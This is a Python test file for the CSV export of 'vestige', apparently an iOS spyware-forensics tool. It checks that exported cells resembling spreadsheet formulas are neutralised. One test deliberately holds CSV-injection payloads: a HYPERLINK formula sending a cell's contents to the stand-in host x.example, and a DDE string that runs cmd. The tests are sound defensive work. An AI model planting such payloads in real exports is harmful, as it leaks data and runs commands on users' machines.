"""The CSV export: RFC 4180 files a spreadsheet opens, with no cell it would run as a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import orjson
import pytest

from vestige.indicators import bundled_sets
from vestige.ios.sample.demo import build_demo_backup
from vestige.model import Evidence, Finding, Locator, Severity
from vestige.pipeline import run_check
from vestige.platforms import Registry
from vestige.report.csv import FINDING_COLUMNS, TIMELINE_COLUMNS, CsvCount, spreadsheet_cell, write_csv
from vestige.report.findings import FindingDocument, FindingsDocument, read_findings


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("demo")
    return run_check([build_demo_backup(root / "backup")], root / "out", bundled_sets(), Registry.discover(), {}).folder


def document(folder: Path) -> FindingsDocument:
    return read_findings((folder / "findings.json").read_bytes())


def rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream, strict=True))


def test_a_cell_that_starts_like_a_formula_is_written_as_text() -> None:
    assert [spreadsheet_cell(v) for v in ("=1+1", "+1", "-2", "@SUM(A1)", "\t=x", "\r=x")] == [
        "'=1+1",
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "'\t=x",
        "'\r=x",
    ]
    assert [spreadsheet_cell(v) for v in ("a=1", " =1", "'=1", "", None, -5, 2.5)] == [
        "a=1",
        " =1",
        "'=1",
        "",
        None,
        -5,
        2.5,
    ]


def test_the_demo_findings_and_timeline_as_rfc_4180_csv(folder: Path, tmp_path: Path) -> None:
    assert write_csv(document(folder), folder / "timeline.jsonl", tmp_path) == CsvCount(findings=10, events=122)
    raw = (tmp_path / "findings.csv").read_bytes()
    assert raw.startswith(
        b"\xef\xbb\xbfid,severity,rule,time,title,explanation,caveats,evidence,excerpts,indicators\r\n"
    )
    assert raw.endswith(b"\r\n")
    findings = rows(tmp_path / "findings.csv")
    assert findings[0] == list(FINDING_COLUMNS)
    assert len(findings) == 11
    bh = findings[1]
    assert bh[:5] == [
        "85700d6f7d95312569ce",
        "critical",
        "ios.datausage.indicator_match",
        "2024-05-14T09:12:49.250000Z",
        "A process that used the network (DataUsage) involves the process name bh, named by a Pegasus indicator",
    ]
    assert bh[7] == (
        "WirelessDomain/Library/Databases/DataUsage.sqlite ZPROCESS row 11 "
        "(sha256 ea929de6ae57562b93e9e8a4814313c1c766b3d1e116783f5ecbaa735d6a58f7)"
    )
    assert bh[8] == "Process 'bh' first used the network"
    assert bh[9].startswith("process:name bh (Pegasus, amnesty/2021-07-18_nso/pegasus.stix2 ")
    redirect = next(row for row in findings if row[2] == "ios.redirect_then_new_process")
    assert redirect[7].count("\n") == 3  # four pieces of evidence, one per line of one field
    timeline = rows(tmp_path / "timeline.csv")
    assert timeline[0] == list(TIMELINE_COLUMNS)
    assert len(timeline) == 123
    sms = next(row for row in timeline if row[3] == "ios.sms" and row[8] == "3")
    named = dict(zip(TIMELINE_COLUMNS, sms, strict=True))
    assert {k: named[k] for k in ("datetime", "timestamp", "path", "table", "row", "finding_id", "severity")} == {
        "datetime": "2024-05-10T06:12:41.250000Z",
        "timestamp": "1715321561250000",
        "path": "HomeDomain/Library/SMS/sms.db",
        "table": "message",
        "row": "3",
        "finding_id": "a41a1124cae608c88aca",
        "severity": "high",
    }
    assert orjson.loads(named["fields"])["handle"] == "+212600112233"
    finding_rows = [row for row in timeline if row[3] == "vestige.finding"]
    # the info at the redirect's time: the baseband correlator's (no log, the rogue-station hypothesis untestable)
    assert [row[-2] for row in finding_rows] == ["high"] * 3 + ["info"] + ["high"] * 2 + ["critical"] * 2 + [
        "medium",
        "info",
    ]


def test_evidence_that_looks_like_a_formula_never_reaches_a_spreadsheet_as_one(folder: Path, tmp_path: Path) -> None:
    hostile = Finding(
        "=rule",
        Severity.HIGH,
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        ("-1+1", "@SUM(1)"),
        (Evidence(Locator("@a.db", None, "\tt", 1), "\r=1"),),
    )
    doc = document(folder).model_copy(update={"findings": [FindingDocument.model_validate(hostile.as_json())]})
    timeline = tmp_path / "timeline.jsonl"
    event = {
        "message": "=2+3",
        "datetime": "2024-01-01T00:00:00.000000Z",
        "timestamp": 1,
        "timestamp_desc": "-x",
        "data_type": "@a",
        "evidence": {"path": "+p", "sha256": None, "key": "=k"},
    }
    timeline.write_bytes(orjson.dumps(event) + b"\n")
    out = tmp_path / "out"
    out.mkdir()
    write_csv(doc, timeline, out)
    (finding,) = rows(out / "findings.csv")[1:]
    assert finding[2:] == [
        "'=rule",
        "",
        '\'=HYPERLINK("http://x.example/?"&A1,"click")',
        "'+cmd|' /C calc'!A0",
        "'-1+1\n@SUM(1)",
        "'@a.db \tt row 1 (sha256 -)",
        "'\r=1",
        "",
    ]
    (line,) = rows(out / "timeline.csv")[1:]
    named = dict(zip(TIMELINE_COLUMNS, line, strict=True))
    assert [named[k] for k in ("message", "timestamp_desc", "artifact", "path", "key", "timestamp")] == [
        "'=2+3",
        "'-x",
        "'@a",
        "'+p",
        "'=k",
        "1",
    ]
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows(out / "timeline.csv") for cell in row
    )
